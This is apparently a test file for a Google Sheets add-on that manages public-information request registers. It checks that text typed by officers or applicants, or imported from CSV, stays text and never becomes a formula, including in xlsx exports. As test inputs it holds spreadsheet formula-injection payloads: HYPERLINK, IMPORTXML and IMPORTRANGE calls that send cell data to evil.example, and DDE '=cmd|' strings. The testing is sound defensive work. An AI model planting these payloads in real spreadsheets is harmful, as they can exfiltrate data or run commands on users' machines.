// Issue 8.2: text an officer or applicant typed never becomes a formula when the add-on writes it
// into a cell: not in the recap sheet, the Periksa Data list, the register row the form adds, nor
// the register the offline runner imports from CSV; and not in the exported xlsx either.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { addonEmulator, fillRegister, row, wib } from '../support/harness';
import { exportXlsxBuffer } from '@ppid-sheets/emulator';
import { header, toCsv } from '../../scripts/lib/generate-register';
import { runReport } from '../../scripts/runner';
import { REGISTER_COLUMNS, COMPUTED_COLUMNS } from '../../src/core/register';
import { DIK_COLUMNS } from '../../src/core/dip';

/** What a cell holds when an officer types text that starts like a formula (Sheets needs the apostrophe). */
const typed = (s: string) => `'${s}`;

const CHANNELS = ['=HYPERLINK("http://evil.example/?d="&A1,"Kanal")', '@ppid_kota', '-Tatap Muka', '+Aduan'];
const TOPICS = ['=1+1', '@Topik', '-Data Terbuka', '+Beasiswa Plus'];
const UNIT = '=IMPORTRANGE("http://evil.example","A1")';
const NUMBERS = ['=1+1', '+62-1', '-007', '@r4', '\t=cmd|" /C calc"!A0', '\r=2+2'];

/** Formulas the add-on itself writes: the register's computed columns (after the input columns) and the holiday sheet's effective date. */
function isOwnFormula(sheet: string, r: number, c: number, formula: string): boolean {
  const first = REGISTER_COLUMNS.length + 1;
  if (sheet === 'Register' && r === 1 && c >= first && c < first + COMPUTED_COLUMNS.length)
    return /^=?ARRAYFORMULA\(/.test(formula);
  if (sheet === 'Hari Libur' && r === 1 && c === 5) return /^=?ARRAYFORMULA\(/.test(formula);
  // The DIK's live exemption status (issue #27), its last column.
  if (sheet === 'Informasi yang Dikecualikan' && r === 1 && c === DIK_COLUMNS.length)
    return /^=?ARRAYFORMULA\(/.test(formula);
  // The formula-form probe's live columns (hidden sheet, synthetic rows), beside its 9 inputs
  // (src/sheets/formula-form.ts INPUTS: the request's, the objection's and the dispute's dates).
  if (sheet === 'PPID Uji Rumus' && r === 1 && c > 9 && c <= 9 + COMPUTED_COLUMNS.length)
    return /^=?ARRAYFORMULA\(/.test(formula);
  return false;
}

/** Every formula cell of every sheet of an emulated spreadsheet that the add-on did not mean to write. */
function strayFormulas(ss: any): string[] {
  const out: string[] = [];
  for (const sheet of ss.getSheets()) {
    const name = sheet.getName();
    const formulas: string[][] = sheet.getDataRange().getFormulas();
    formulas.forEach((cells, i) =>
      cells.forEach((f, j) => {
        if (f && !isOwnFormula(name, i + 1, j + 1, f)) out.push(`${name}!R${i + 1}C${j + 1}: ${f}`);
      }),
    );
  }
  return out;
}

/** The same for an xlsx file: formula cells (plain, shared or array) outside the add-on's own. */
async function strayXlsxFormulas(buffer: Buffer): Promise<{ stray: string[]; own: number; strings: Set<string> }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const stray: string[] = [];
  const strings = new Set<string>();
  let own = 0;
  wb.eachSheet((ws) => {
    ws.eachRow((r, rn) =>
      r.eachCell((cell, cn) => {
        const v = cell.value as any;
        const formula =
          cell.type === ExcelJS.ValueType.Formula ||
          (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v));
        if (formula) {
          const f = String(v.formula ?? v.sharedFormula ?? '');
          if (isOwnFormula(ws.name, rn, cn, f)) own++;
          else stray.push(`${ws.name}!R${rn}C${cn}: ${f}`);
        } else if (typeof v === 'string') strings.add(v);
      }),
    );
  });
  return { stray, own, strings };
}

/**
 * A setting value as an officer types it into its plain-text cell (the add-on formats the value
 * column '@'), where text starting with = stays text. Written raw: the emulator's setValue makes
 * any leading = a formula whatever the cell's format.
 */
function setSetting(em: any, label: string, value: unknown): void {
  const sheet = em.spreadsheet.getSheetByName('Pengaturan');
  const grid: unknown[][] = sheet.getDataRange().getValues();
  const r = grid.findIndex((x) => x[0] === label);
  if (r < 0) throw new Error(`no setting ${label}`);
  em.spreadsheet
    ._impl()
    ._findSheet('Pengaturan')
    ._writeRaw(r + 1, 2, [[value]]);
}

function appendToColumn(em: any, col: number, values: unknown[][]): void {
  const sheet = em.spreadsheet.getSheetByName('Pengaturan');
  const column: unknown[][] = sheet.getRange(1, col, sheet.getMaxRows(), 1).getValues();
  let first = 1;
  while (first < column.length && column[first][0] !== '') first++;
  sheet.getRange(first + 1, col, values.length, values[0].length).setValues(values);
}

describe('formula injection through the bundle: recap, Periksa Data, form', () => {
  const em = addonEmulator({ now: '2025-07-10T03:00:00Z' });
  const base = {
    'Kategori Pemohon': 'Perseorangan',
    'Nama Pemohon': 'Pemohon',
    'Informasi yang Diminta': 'Data',
    Status: 'Dipenuhi',
    Perpanjangan: 'Tidak',
  };
  fillRegister(em, [
    row({
      ...base,
      'No. Registrasi': typed(NUMBERS[0]),
      'Tanggal Permohonan': wib('2025-04-02'),
      Saluran: typed(CHANNELS[0]),
      Topik: typed(TOPICS[0]),
      'Tanggal Selesai': wib('2025-04-03'),
    }),
    row({
      ...base,
      'No. Registrasi': typed(NUMBERS[1]),
      'Tanggal Permohonan': wib('2025-04-03'),
      Saluran: CHANNELS[1],
      Topik: TOPICS[1],
      'Tanggal Selesai': wib('2025-04-04'),
    }),
    row({
      ...base,
      'No. Registrasi': typed(NUMBERS[2]),
      'Tanggal Permohonan': wib('2025-05-05'),
      Saluran: typed(CHANNELS[2]),
      Topik: typed(TOPICS[2]),
      Status: 'Diproses',
    }),
    row({
      ...base,
      'No. Registrasi': typed(NUMBERS[3]),
      'Tanggal Permohonan': wib('2025-06-02'),
      Saluran: typed(CHANNELS[3]),
      Topik: typed(TOPICS[3]),
      'Tanggal Selesai': wib('2025-06-20'),
    }),
    // A duplicate number, an unknown channel and status, a fee that is no number: problems that quote what was typed.
    row({
      ...base,
      'No. Registrasi': typed(NUMBERS[0]),
      'Tanggal Permohonan': wib('2025-06-03'),
      Saluran: typed('=SUM(A1)'),
      Status: typed('@Selesai'),
      'Biaya (Rp)': typed('=5000'),
    }),
    row({ ...base, 'No. Registrasi': typed(NUMBERS[4]), 'Tanggal Permohonan': typed('=TODAY()'), Saluran: 'Email' }),
    row({
      ...base,
      'No. Registrasi': typed(NUMBERS[5]),
      'Tanggal Permohonan': wib('2025-06-04'),
      Saluran: 'Email',
      'Tanggal Selesai': wib('2025-06-05'),
    }),
  ]);
  em.call('setupRegister');
  // Setting values are plain-text cells: what is typed is kept as is, no apostrophe needed.
  setSetting(em, 'Nama Unit', UNIT);
  setSetting(em, 'Format No. Registrasi', '={nnn}');
  appendToColumn(
    em,
    5,
    CHANNELS.map((c) => [typed(c)]),
  );
  appendToColumn(
    em,
    6,
    TOPICS.map((c) => [typed(c)]),
  );
  appendToColumn(em, 8, [
    ['2025-TW2', typed('=HYPERLINK("http://evil.example","IG")'), typed('@ppid_kota'), 100, 5, 20, 300],
  ]);
  expect(strayFormulas(em.spreadsheet)).toEqual([]);

  const report = em.call('generateReport', { period: '2025-Q2', asOf: '2025-07-10' });
  const check = em.call('checkRegister');
  const submitted = em.call('submitRequest', {
    received: '2025-07-10',
    channel: CHANNELS[0],
    applicantName: '=IMPORTXML("http://evil.example","//a")',
    applicantType: 'Perseorangan',
    occupation: '-',
    address: '+62 Jl. Merdeka',
    contact: '@budi',
    infoRequested: '=1+1',
    topic: TOPICS[0],
    purpose: '\t=2+2',
    officer: '\r=3+3',
    notes: '-1+1',
  });

  test('the report, the check and the form all ran', () => {
    expect(report.requests).toBe(6);
    expect(check.problems).toBeGreaterThanOrEqual(4);
    expect(submitted).toMatchObject({ ok: true, number: '=001' });
  });

  test("no cell of any sheet became a formula: only the add-on's own five ARRAYFORMULAs exist", () => {
    expect(strayFormulas(em.spreadsheet)).toEqual([]);
  });

  test('the recap sheet shows channel, topic, unit, number and media names as text, exactly as typed', () => {
    const values: unknown[][] = em.spreadsheet.getSheetByName(report.recapSheet).getDataRange().getValues();
    const cells = new Set(values.flat());
    // Registration numbers appear in the problems list: the duplicate and the unplaced row's.
    for (const name of [...CHANNELS, ...TOPICS, NUMBERS[0], '=HYPERLINK("http://evil.example","IG")', '@ppid_kota']) {
      expect(cells).toContain(name);
    }
    // A number holding more than an identifier (here words and a space) is never quoted in a shared
    // output (#23 item 2), formula or not.
    expect([...cells].some((c) => String(c).includes('cmd|'))).toBe(false);
    expect(String(values[1][0]).startsWith(UNIT)).toBe(true);
  });

  test('the Periksa Data list shows numbers and messages as text', () => {
    const values: unknown[][] = em.spreadsheet.getSheetByName(check.sheet).getDataRange().getValues();
    const numbers = new Set(values.slice(1).map((r) => r[1]));
    expect(numbers).toContain(NUMBERS[0]);
    expect(numbers).toContain(NUMBERS[4].trim());
    expect(values.slice(1).some((r) => String(r[3]).includes('=SUM(A1)'))).toBe(true);
  });

  test("the form stores every field, its number and the settings' list values as text", () => {
    const reg = em.spreadsheet.getSheetByName('Register');
    const head: string[] = reg.getRange(1, 1, 1, reg.getLastColumn()).getValues()[0];
    const line: unknown[] = reg.getRange(submitted.row, 1, 1, head.length).getValues()[0];
    const at = (h: string) => line[head.indexOf(h)];
    expect(at('No. Registrasi')).toBe('=001');
    expect(at('Saluran')).toBe(CHANNELS[0]);
    expect(at('Topik')).toBe(TOPICS[0]);
    expect(at('Nama Pemohon')).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(at('Pekerjaan')).toBe('-');
    expect(at('Alamat')).toBe('+62 Jl. Merdeka');
    expect(at('Kontak')).toBe('@budi');
    expect(at('Informasi yang Diminta')).toBe('=1+1');
    expect(at('Catatan')).toBe('-1+1');
    expect(
      reg
        .getRange(submitted.row, 1, 1, 24)
        .getFormulas()[0]
        .every((f: string) => f === ''),
    ).toBe(true);
  });

  test("the exported xlsx holds no formula but the add-on's own, and the typed text as strings", async () => {
    const { stray, own, strings } = await strayXlsxFormulas(await exportXlsxBuffer(em.spreadsheet));
    expect(stray).toEqual([]);
    // The register's live columns, the holiday column, the hidden probe's live columns, the DIK's status.
    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 2);
    for (const s of [...CHANNELS, ...TOPICS, '=001', '=IMPORTXML("http://evil.example","//a")'])
      expect(strings).toContain(s);
  });
});

describe("formula injection through the offline runner's CSV import", () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ppid-injection-'));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  test('cells starting with = + - @ tab or CR stay data in the register, the recap and spreadsheet.xlsx', async () => {
    const head = header();
    const col = (h: string) => head.indexOf(h);
    const dangerous = [
      '=HYPERLINK("http://evil.example","x")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(1)',
      '\t=1+1',
      '\r=cmd|" /C calc"!A0',
    ];
    const rows = dangerous.map((d, i) => {
      const r: unknown[] = head.map(() => '');
      r[col('No. Registrasi')] = d;
      r[col('Tanggal Permohonan')] = `2025-04-0${i + 1}`;
      r[col('Saluran')] = i % 2 ? d : 'Email';
      r[col('Nama Pemohon')] = d;
      r[col('Kategori Pemohon')] = 'Perseorangan';
      r[col('Informasi yang Diminta')] = d;
      r[col('Topik')] = d;
      r[col('Status')] = 'Diproses';
      r[col('Catatan')] = d;
      return r;
    });
    const input = path.join(dir, 'register.csv');
    fs.writeFileSync(input, toCsv(head, rows));
    const out = path.join(dir, 'out');
    const run = await runReport({ input, period: '2025-Q2', asOf: '2025-07-10', out, pdf: false });
    const em = run.emulator;
    expect(run.result.requests).toBe(6);
    expect(strayFormulas(em.spreadsheet)).toEqual([]);
    // Stored as the text it was (the CSV parser turns a lone CR into a line break).
    const reg: unknown[][] = em.spreadsheet.getSheetByName('Register').getDataRange().getValues();
    const names = reg.slice(1, 7).map((r) => r[col('Nama Pemohon')]);
    expect(names.slice(0, 5)).toEqual(dangerous.slice(0, 5));
    expect(String(names[5]).replace(/^\n/, '\r')).toBe(dangerous[5]);
    const { stray, own, strings } = await strayXlsxFormulas(fs.readFileSync(path.join(out, 'spreadsheet.xlsx')));
    expect(stray).toEqual([]);
    // The register's live columns, the holiday column, the hidden probe's live columns, the DIK's status.
    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 2);
    expect(strings).toContain(dangerous[0]);
    expect(strings).toContain(dangerous[3]);
  });
});
